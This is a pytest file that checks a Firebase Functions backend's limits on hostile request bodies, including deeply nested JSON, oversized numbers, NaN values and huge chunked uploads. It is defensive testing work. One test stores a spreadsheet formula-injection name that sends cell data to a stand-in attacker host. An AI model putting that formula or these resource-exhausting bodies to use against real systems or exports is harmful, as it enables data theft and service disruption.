"""Hostile request bodies end to end: every one gets a 4xx (HTTP) or INVALID_ARGUMENT
(callable) with a message naming the limit, never a 500, and nothing is written.

Through functions-framework's test client where the body's framing does not matter, and
over a real socket (werkzeug's server, as the local run uses) where it does: a chunked
body has no Content-Length, and only a real server produces one.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import threading
import tracemalloc
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from werkzeug.serving import make_server

from infra.request_limits import (
    MAX_BODY_BYTES,
    MAX_JSON_DEPTH,
    NOT_A_NUMBER_MESSAGE,
    NOT_JSON_MESSAGE,
    OUT_OF_RANGE_MESSAGE,
    TOO_DEEP_MESSAGE,
    TOO_LARGE_MESSAGE,
    TOO_MANY_DIGITS_MESSAGE,
)
from tests.support.moderation import callable_

DEEP = b"[" * 100_000 + b"]" * 100_000
PART = b'{"part_code": "P1", "part_name": "x", "quantity": '


def records(firestore_client, collection: str) -> list[str]:
    return [d.id for d in firestore_client.collection(collection).stream()]


def assert_nothing_written(firestore_client) -> None:
    for collection in ("qr_codes", "parts", "admin_actions", "system_config"):
        assert records(firestore_client, collection) == [], collection


def post_json(call, name: str, body: bytes, token: str | None):
    return call(name, "POST", token=token, data=body, content_type="application/json")


def error_of(reply, status: int) -> dict:
    assert reply.status_code == status, reply.get_data(as_text=True)
    return reply.get_json()["error"]


# -- JSON nesting and numbers, HTTP functions -------------------------------------------------

@pytest.mark.parametrize("name", ["upload_parts", "clear_all_qrs", "download_qr_zip"])
def test_deep_nesting_is_a_400_that_names_the_limit(functions_env, call, admin_token,
                                                    firestore_client, name):
    error = error_of(post_json(call, name, DEEP, admin_token), 400)
    assert error == {"code": "InvalidInput", "message": TOO_DEEP_MESSAGE}
    assert f"{MAX_JSON_DEPTH} levels" in error["message"]
    assert_nothing_written(firestore_client)


def test_nesting_inside_a_good_body_is_refused_too(functions_env, call, user_token,
                                                   firestore_client):
    body = (b'{"parts": [{"part_code": "P1", "part_name": "x", "quantity": 1, "extra": '
            + b"{\"a\":" * 200 + b"1" + b"}" * 200 + b"}]}")
    assert error_of(post_json(call, "upload_parts", body, user_token), 400)["message"] == \
        TOO_DEEP_MESSAGE
    assert_nothing_written(firestore_client)


def test_clear_all_keeps_every_label_when_its_body_is_too_deep(functions_env, call, user_token,
                                                              admin_token, firestore_client):
    made = call("upload_parts", "POST", token=user_token,
                json={"parts": [{"part_code": "KEEP-1", "part_name": "x", "quantity": 2}]})
    assert made.status_code == 201
    deep_confirm = b'{"confirm": ' + b"[" * 1000 + b'"DELETE ALL QR CODES"' + b"]" * 1000 + b"}"
    error_of(post_json(call, "clear_all_qrs", deep_confirm, admin_token), 400)
    assert sorted(records(firestore_client, "qr_codes")) == sorted(made.get_json()["qr_ids"])


@pytest.mark.parametrize("quantity, message", [
    (b"9" * 5000, TOO_MANY_DIGITS_MESSAGE),
    (b"-" + b"1" * 101, TOO_MANY_DIGITS_MESSAGE),
    (b"NaN", NOT_A_NUMBER_MESSAGE),
    (b"Infinity", NOT_A_NUMBER_MESSAGE),
    (b"-Infinity", NOT_A_NUMBER_MESSAGE),
    (b"1e999", OUT_OF_RANGE_MESSAGE),
])
def test_numbers_json_cannot_hold_get_a_precise_400(functions_env, call, user_token,
                                                   firestore_client, quantity, message):
    body = b'{"parts": [' + PART + quantity + b"}]}"
    error = error_of(post_json(call, "upload_parts", body, user_token), 400)
    assert error == {"code": "InvalidInput", "message": message}
    assert_nothing_written(firestore_client)


def test_a_content_length_over_the_limit_is_413_for_json_too(functions_env, call, user_token,
                                                             firestore_client):
    body = b'{"parts": []}' + b" " * MAX_BODY_BYTES
    error = error_of(post_json(call, "upload_parts", body, user_token), 413)
    assert error == {"code": "PayloadTooLarge", "message": TOO_LARGE_MESSAGE}
    assert_nothing_written(firestore_client)


def test_formula_like_part_names_are_stored_verbatim(functions_env, call, user_token,
                                                     firestore_client):
    # They are the user's data; exports neutralise them (spreadsheet_safe), storage never.
    name = '=HYPERLINK("http://evil.example/?x="&A1, "Çelik ŞĞİ")'
    reply = call("upload_parts", "POST", token=user_token,
                 json={"parts": [{"part_code": "F-1", "part_name": name, "quantity": 1}]})
    assert reply.status_code == 201, reply.get_data(as_text=True)
    part = firestore_client.collection("parts").document("F-1").get().to_dict()
    assert part["part_name"] == name


# -- callables: the limits run before firebase-functions parses the body --------------------

def callable_names() -> list[str]:
    import main
    from devtools.function_apps import function_signatures

    function_signatures()  # imports main the way the local run does
    def speaks_the_callable_protocol(value: object) -> bool:
        endpoint = getattr(value, "__firebase_endpoint__", None)
        return (getattr(endpoint, "callableTrigger", None) is not None
                or getattr(endpoint, "taskQueueTrigger", None) is not None)

    return sorted(name for name, value in vars(main).items()
                  if speaks_the_callable_protocol(value))


def test_every_callable_answers_deep_nesting_with_invalid_argument(functions_env, call,
                                                                   admin_token,
                                                                   firestore_client):
    names = callable_names()
    # 29 callables twice (snake and camel case) and 2 task queue functions: the wrapper
    # kept each one's endpoint.
    assert len(names) == 60
    for name in names:
        reply = post_json(call, name, b'{"data": ' + DEEP + b"}", admin_token)
        assert reply.status_code == 400, (name, reply.get_data(as_text=True))
        assert reply.get_json() == {"error": {"status": "INVALID_ARGUMENT",
                                              "message": TOO_DEEP_MESSAGE}}, name
    assert_nothing_written(firestore_client)


@pytest.mark.parametrize("body, message", [
    (b'{"data": {"limit": ' + b"9" * 5000 + b"}}", TOO_MANY_DIGITS_MESSAGE),
    (b'{"data": {"limit": NaN}}', NOT_A_NUMBER_MESSAGE),
    (b'{"data": {"limit": Infinity}}', NOT_A_NUMBER_MESSAGE),
    (b'{"data": {"limit": 1e999}}', OUT_OF_RANGE_MESSAGE),
    (b"{not json", NOT_JSON_MESSAGE),
    (b"", NOT_JSON_MESSAGE),
])
def test_callable_bodies_json_cannot_hold_are_invalid_argument(functions_env, call, admin_token,
                                                               firestore_client, body, message):
    reply = post_json(call, "setVisionApiMonthlyQuota", body, admin_token)
    assert reply.status_code == 400, reply.get_data(as_text=True)
    assert reply.get_json() == {"error": {"status": "INVALID_ARGUMENT", "message": message}}
    assert_nothing_written(firestore_client)


def test_a_rejected_call_is_readable_by_a_browser(functions_env, call, admin_token):
    reply = call("getVisionApiQuotaStatus", "POST", token=admin_token, data=b"{not json",
                 content_type="application/json",
                 headers={"Origin": "https://inventory.example"})
    assert reply.status_code == 400
    assert reply.headers["Access-Control-Allow-Origin"] == "*"


def test_good_calls_still_go_through_firebase_functions(env, call, admin_token,
                                                        firestore_client):
    assert callable_(call, "setVisionApiMonthlyQuota", {"limit": 77}, admin_token
                     ).status_code == 200
    status = callable_(call, "getVisionApiQuotaStatus", {}, admin_token).get_json()["result"]
    assert status["limit"] == 77
    # What firebase-functions itself refuses is still its answer.
    extra = post_json(call, "getVisionApiQuotaStatus", b'{"data": {}, "x": 1}', admin_token)
    assert error_of(extra, 400)["status"] == "INVALID_ARGUMENT"
    preflight = call("getVisionApiQuotaStatus", "OPTIONS", headers={
        "Origin": "https://inventory.example", "Access-Control-Request-Method": "POST"})
    assert preflight.status_code in (200, 204)


# -- over a real socket: chunked bodies and the framework's drain --------------------------

class ServedPort(int):
    """The server's port, which can also wait until the server has finished every request
    it took (reading and discarding what a client sent after the reply included)."""

    idle: Callable[[float], bool]

    def wait_idle(self, timeout_s: float = 30.0) -> bool:
        return self.idle(timeout_s)


@pytest.fixture(scope="module")
def server() -> Iterator[ServedPort]:
    """Every function at /<name> behind werkzeug's threaded server on a free port."""
    from devtools.function_apps import combined_app

    httpd = make_server("127.0.0.1", 0, combined_app(), threaded=True)
    busy = threading.Condition()
    active = [0]
    take, serve = httpd.process_request, httpd.process_request_thread

    def counted_take(request: Any, address: Any) -> None:
        with busy:
            active[0] += 1
        take(request, address)

    def counted_serve(request: Any, address: Any) -> None:
        try:
            serve(request, address)
        finally:
            with busy:
                active[0] -= 1
                busy.notify_all()

    def idle(timeout_s: float) -> bool:
        with busy:
            return busy.wait_for(lambda: active[0] == 0, timeout_s)

    httpd.process_request = counted_take  # type: ignore[method-assign]
    httpd.process_request_thread = counted_serve  # type: ignore[method-assign]
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    port = ServedPort(httpd.server_port)
    port.idle = idle
    yield port
    httpd.shutdown()
    thread.join(10)


def padded(prefix: bytes, total: int, suffix: bytes, piece: int = 256 * 1024
           ) -> Iterator[bytes]:
    """`prefix` + spaces + `suffix`, `total` bytes in all, made as it is sent."""
    yield prefix
    left = total - len(prefix) - len(suffix)
    while left > 0:
        yield b" " * min(piece, left)
        left -= piece
    yield suffix


def send(port: int, path: str, body: Iterator[bytes], content_type: str,
         token: str | None = None, length: int | None = None) -> tuple[int, dict]:
    """POST `body` chunked (or with Content-Length `length`); the reply's status and JSON."""
    headers = {"Content-Type": content_type}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    if length is not None:
        headers["Content-Length"] = str(length)
    connection = http.client.HTTPConnection("127.0.0.1", int(port), timeout=120)
    try:
        # A server may stop reading once it has answered; the answer is there to read.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            connection.request("POST", path, body=body, headers=headers,
                               encode_chunked=length is None)
        reply = connection.getresponse()
        return reply.status, json.loads(reply.read())
    finally:
        connection.close()


def peak_bytes(action, server: ServedPort) -> tuple[object, int]:
    """What `action()` returned, and the most Python memory held meanwhile (server thread
    included: it runs in this process), until the server has done with the request."""
    tracemalloc.start()
    try:
        result = action()
        assert server.wait_idle(), "the server did not finish the request"
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def multipart(boundary: bytes, csv_head: bytes) -> tuple[bytes, bytes]:
    head = (b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; '
            b'filename="parts.csv"\r\nContent-Type: text/csv\r\n\r\n' + csv_head)
    return head, b"\r\n--" + boundary + b"--\r\n"


HUGE = 6 * MAX_BODY_BYTES  # well past the limit: a body read whole would show in memory


@pytest.mark.parametrize("chunked", [True, False], ids=["chunked", "content-length"])
def test_a_huge_json_body_is_413_without_being_held(functions_env, server, user_token,
                                                    firestore_client, chunked):
    prefix = b'{"parts": [' + PART + b"1}]"
    (status, reply), peak = peak_bytes(lambda: send(
        server, "/upload_parts", padded(prefix, HUGE, b"}"), "application/json", user_token,
        length=None if chunked else HUGE), server)
    assert status == 413, reply
    assert reply["error"] == {"code": "PayloadTooLarge", "message": TOO_LARGE_MESSAGE}
    # Before: the whole body was held (twice over), 201 for chunked. Now at most the
    # limit's worth (plus werkzeug's server discarding the rest 10 MB at a time).
    assert peak < 3 * MAX_BODY_BYTES, f"{peak / 2**20:.0f} MB held"
    assert_nothing_written(firestore_client)


def test_a_huge_chunked_multipart_upload_is_413_without_being_held(
        functions_env, server, user_token, firestore_client):
    head, tail = multipart(b"BOUNDARY", b"part_code,part_name,quantity\nP1,A,1\n")
    (status, reply), peak = peak_bytes(lambda: send(
        server, "/upload_parts", padded(head, HUGE, tail),
        "multipart/form-data; boundary=BOUNDARY", user_token), server)
    assert status == 413, reply
    assert reply["error"]["message"] == TOO_LARGE_MESSAGE
    assert peak < 3 * MAX_BODY_BYTES, f"{peak / 2**20:.0f} MB held"
    assert_nothing_written(firestore_client)


def test_unread_huge_bodies_are_413_whoever_sends_them(functions_env, server, firestore_client):
    # No token: before, the 401 went out and the framework then read the whole body.
    status, reply = send(server, "/upload_parts", padded(b"{", HUGE, b"}"), "application/json")
    assert status == 413 and reply["error"]["code"] == "PayloadTooLarge"
    assert_nothing_written(firestore_client)


@pytest.mark.parametrize("extra, expected", [(0, 201), (1, 413)], ids=["at-limit", "one-over"])
def test_the_limit_is_exact_for_chunked_bodies(functions_env, server, user_token,
                                               firestore_client, extra, expected):
    prefix = b'{"parts": [' + PART + b"1}]"
    status, reply = send(server, "/upload_parts", padded(prefix, MAX_BODY_BYTES + extra, b"}"),
                         "application/json", user_token)
    assert status == expected, reply
    assert len(records(firestore_client, "qr_codes")) == (1 if expected == 201 else 0)


def test_a_small_chunked_upload_still_works(functions_env, server, user_token,
                                            firestore_client):
    head, tail = multipart(b"B0UND", "part_code,part_name,quantity\nCH-1,Çelik vida,2\n"
                           .encode())
    status, reply = send(server, "/upload_parts", iter([head, tail]),
                         "multipart/form-data; boundary=B0UND", user_token)
    assert status == 201, reply
    assert len(reply["qr_ids"]) == 2
    status, reply = send(server, "/upload_parts", iter([b'{"parts": [', PART, b"3}]}"]),
                         "application/json", user_token)
    assert status == 201 and len(reply["qr_ids"]) == 3, reply


def test_a_huge_chunked_call_is_invalid_argument(functions_env, server, admin_token,
                                                firestore_client):
    (status, reply), peak = peak_bytes(lambda: send(
        server, "/setVisionApiMonthlyQuota", padded(b'{"data": {"limit": 5}', HUGE, b"}"),
        "application/json", admin_token), server)
    assert status == 400, reply
    assert reply == {"error": {"status": "INVALID_ARGUMENT", "message": TOO_LARGE_MESSAGE}}
    assert peak < 3 * MAX_BODY_BYTES, f"{peak / 2**20:.0f} MB held"
    assert_nothing_written(firestore_client)
    status, reply = send(server, "/getVisionApiQuotaStatus", iter([b'{"data"', b": {}}"]),
                         "application/json", admin_token)
    assert status == 200 and "limit" in reply["result"], reply
